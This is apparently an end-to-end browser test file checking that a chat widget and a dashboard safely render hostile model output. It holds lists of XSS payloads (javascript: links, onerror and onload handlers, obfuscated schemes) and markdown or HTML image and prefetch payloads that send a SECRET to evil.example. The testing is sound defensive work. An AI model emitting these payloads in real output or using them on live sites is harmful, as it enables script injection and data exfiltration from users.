"""Model text that wants to be code or to phone home (cases C45 and C46)."""

from __future__ import annotations

import pytest

from tests.e2e.browser.conftest import Shop, reply
from tests.e2e.browser.dashboard import log_in, open_conversation
from tests.fakes.browser import Visit

pytestmark = [pytest.mark.live, pytest.mark.browser, pytest.mark.timeout(90)]

SCRIPTS = [
    "<img src=x onerror=alert(1)>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](java\nscript:alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](data:text/html,x)",
    "[a](vbscript:x)",
    "<javascript:alert(1)>",
    '[a](https://x" onclick="alert(1))',
    "<svg/onload=alert(1)>",
    '```js" onmouseover="alert(1)\nx\n```',
    "<style>* { display: none !important }</style>",
]
LEAKS = [
    "![x](https://evil.example/p.png?q=SECRET)",
    '<img src="https://evil.example/p.png?q=SECRET">',
    "![x][r]\n\n[r]: https://evil.example/p.png?q=SECRET",
    '<link rel="prefetch" href="https://evil.example/SECRET">',
    "<style>body { background: url(https://evil.example/SECRET) }</style>",
]
TEXT = "\n\n".join([*SCRIPTS, *LEAKS, "The end."])
# Each piece is rendered, so that every script is also seen half-written.
PIECES = [TEXT[at : at + 3] for at in range(0, len(TEXT), 3)]

WATCH = "window.ran = []; window.alert = (what) => window.ran.push(what);"


async def check(visit: Visit) -> None:
    """Nothing ran, no link leads to a script, and the panel still stands."""
    assert await visit.page.evaluate("window.ran") == []
    links = visit.page.locator(".markdown a")
    schemes = await links.evaluate_all("links => links.map(link => link.protocol)")
    assert set(schemes) <= {"http:", "https:", "mailto:", "tel:"}
    inner = visit.page.locator(".markdown").locator("img, iframe, svg, style, script")
    assert (
        await inner.count() == await visit.page.locator(".markdown button svg").count()
    )
    assert not visit.faults


async def test_hostile_text_does_nothing_in_widget(shop: Shop) -> None:
    shop.upstream.enqueue(reply(PIECES, 0.005))
    await shop.visit.page.add_init_script(WATCH)
    await shop.visit.open(shop.url)
    await shop.visit.say(SCRIPTS[0])
    assert "The end." in await shop.visit.last_reply()
    await check(shop.visit)
    assert not shop.foreign_requests
    assert await shop.visit.page.locator(".panel").is_visible()


async def test_hostile_text_does_nothing_in_dashboard(shop: Shop) -> None:
    shop.upstream.enqueue(reply(PIECES, 0.005))
    await shop.visit.open(shop.url)
    await shop.visit.say(SCRIPTS[0])
    await shop.visit.last_reply()
    shop.visit.requests.clear()
    await shop.visit.page.add_init_script(WATCH)
    await log_in(shop)
    await open_conversation(shop, SCRIPTS[0])
    await shop.visit.page.get_by_text("The end.").first.wait_for()
    await check(shop.visit)
    assert not shop.foreign_requests
